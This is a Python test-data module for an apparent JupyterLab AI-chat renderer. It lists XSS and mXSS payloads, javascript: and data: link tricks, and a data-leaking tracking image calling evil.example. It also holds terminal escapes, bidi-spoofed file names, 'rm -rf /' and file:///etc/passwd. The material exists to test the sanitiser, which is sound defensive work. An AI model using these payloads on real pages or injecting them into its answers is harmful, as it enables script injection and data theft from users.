"""Model text written as an attacker would: CommonMark edge cases, XSS cheat-sheet payloads, mXSS forms.

Every payload that could run script sets ``window.__pwned`` (the browser test checks it stays undefined)
or points at ``evil.example`` (no request may leave for it). Used by ``test_rendering.py`` (unit level)
and ``test_browser.py`` (a real JupyterLab in Chromium).
"""

from __future__ import annotations

PWN = "window.__pwned=1"

CORPUS: list[str] = [
    # raw HTML, block and inline (html is disabled in the parser; the sanitiser is the second line)
    f"<script>{PWN}</script>",
    f"<div>\n<script>{PWN}</script>\n</div>",
    f'<img src=x onerror="{PWN}">',
    f"<img src=x onerror={PWN}//",
    f"<svg onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>",
    f'<iframe src="javascript:{PWN}"></iframe>',
    '<iframe srcdoc="<script>parent.window.__pwned=1</script>"></iframe>',
    f'<body onload="{PWN}">',
    f'<details open ontoggle="{PWN}">',
    f'<input autofocus onfocus="{PWN}">',
    f'<video><source onerror="{PWN}"></video>',
    f'<a href="jAvAsCrIpT:{PWN}">mixed case</a>',
    f'<a href="java&#x09;script:{PWN}">tab entity</a>',
    '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/bg)}</style>',
    f'<form action="javascript:{PWN}"><button>go</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    f'<object data="javascript:{PWN}"></object>',
    f'<embed src="javascript:{PWN}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWN}">',
    '<link rel=stylesheet href="https://evil.example/s.css">',
    f'<base href="javascript:{PWN}//">',
    f"<!-- comment --><script>{PWN}</script><!-- -->",
    f"<![CDATA[<script>{PWN}</script>]]>",
    f"<?php {PWN} ?>",
    # links: schemes, entities, whitespace and control characters, case
    f"[click](javascript:{PWN})",
    f"[click]( JaVaScRiPt:{PWN})",
    f"[click](java\tscript:{PWN})",
    f"[click](<javascript:{PWN}>)",
    f"[click](&#x6A;avascript:{PWN})",
    f"[click](&#106;avascript:{PWN})",
    f"[click](java&#x73;cript:{PWN})",
    f"[click](javascript&colon;{PWN})",
    f"[click](\\javascript:{PWN})",
    f"[click](%6Aavascript:{PWN})",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[click](data:text/html,<script>window.__pwned=1</script>)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    f"[click](\x01javascript:{PWN})",
    f"[click](\u0000javascript:{PWN})",
    "[click](//evil.example/x)",
    "[click](/api/terminals)",
    "[click](#top)",
    '[ok](https://example.org "title \\" onmouseover=alert(1) x")',
    f"<javascript:{PWN}>",
    f"<JAVASCRIPT:{PWN}>",
    "<data:text/html,<script>window.__pwned=1</script>>",
    "<vbscript:msgbox(1)>",
    "<https://example.org/ok>",
    "<mailto:someone@example.org>",
    # reference definitions: unsafe destinations, across blocks, inside containers
    f"[x][r]\n\n[r]: javascript:{PWN}",
    f"[x][r]\n\n> [r]: javascript:{PWN}",
    f"- [x][r]\n- item\n\n  [r]: javascript:{PWN}",
    f"[r]:\njavascript:{PWN}\n\n[x][r]",
    f"[r]: <javascript:{PWN}>\n'title'\n\n[r]",
    "[r]: https://evil.example/ref\n\n![alt][r]",
    f"[foo [bar [baz]]](javascript:{PWN})",
    f"[a [b](javascript:{PWN})](https://example.org)",
    f"[![img](https://evil.example/a.png)](javascript:{PWN})",
    # images: no remote load, ever
    "![track](https://evil.example/leak?d=secret)",
    "![](https://evil.example/empty-alt.png)",
    '![x](https://evil.example/t.png "title")',
    "![x][img]\n\n[img]: https://evil.example/ref.png",
    f"![x](javascript:{PWN})",
    # code spans that cross lines, unbalanced backticks, backslash escapes
    f"`` ` `` <script>{PWN}</script>",
    f"`code\nacross <img src=x onerror={PWN}> lines`",
    f"\\`<img src=x onerror={PWN}>`",
    f"`unclosed <script>{PWN}</script>",
    f"\\<script>{PWN}</script>",
    f"&lt;script&gt;{PWN}&lt;/script&gt;",
    f"&#60;script&#62;{PWN}&#60;/script&#62;",
    # fences and setext tricks
    f"```\n<script>{PWN}</script>\n```",
    f"```html\n<img src=x onerror={PWN}>",
    f'```" onmouseover="{PWN}\ncode\n```',
    f"~~~ <script>{PWN}</script>\nx\n~~~",
    f"Title <img src=x onerror={PWN}>\n===",
    f"    <script>{PWN}</script>",
    f"> <script>{PWN}</script>\n> [q](javascript:{PWN})",
    f"1. <svg onload={PWN}>\n2. [l](javascript:{PWN})",
    f"| a | b |\n|---|---|\n| <script>{PWN}</script> | [t](javascript:{PWN}) |",
    f"~~<img src=x onerror={PWN}>~~",
    # control characters, terminal escapes, bidi overrides
    "\x1b[2J\x1b[1;1Hall clear \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "rm -rf /\u202e txt.exe",
    "entity-spelled override: a&#x202e;gnp.exe &#8238; &#x2066;",
    "carriage\rreturn over\r\nwrite",
    # math (JupyterLab typesets text/html with MathJax): \href, \class, \style, \cssId, \unicode
    f"$\\href{{javascript:{PWN}}}{{math link}}$",
    f"$$\\href{{javascript:{PWN}}}{{display math link}}$$",
    "$\\style{background:url(https://evil.example/m.png)}{x}$",
    "$\\class{jp-mod-x}{x}$ $\\cssId{main}{x}$ $\\unicode{x263A}$",
]
"""Each entry is one model answer; joined with blank lines they are one long hostile answer too."""

TOOL_NAMES = [
    "write`\n<script>window.__pwned=1</script>`",
    "run_code\n\n[x](javascript:window.__pwned=1)",
    "tool<img src=x onerror=window.__pwned=1>",
    "``` \n# heading",
    "name\u202eedoc_nur",
    "\x1b[31mred\x1b[0m",
]
"""Tool and server names (free text from an OpenAI-compatible or MCP server)."""

DIFF_FILE_NAMES = [
    "<img src=x onerror=window.__pwned=1>.txt",
    "notes\n+++ b/evil.py",
    "a\u202egnp.exe",
    "[x](javascript:window.__pwned=1).md",
]
"""File names as a diff header shows them."""
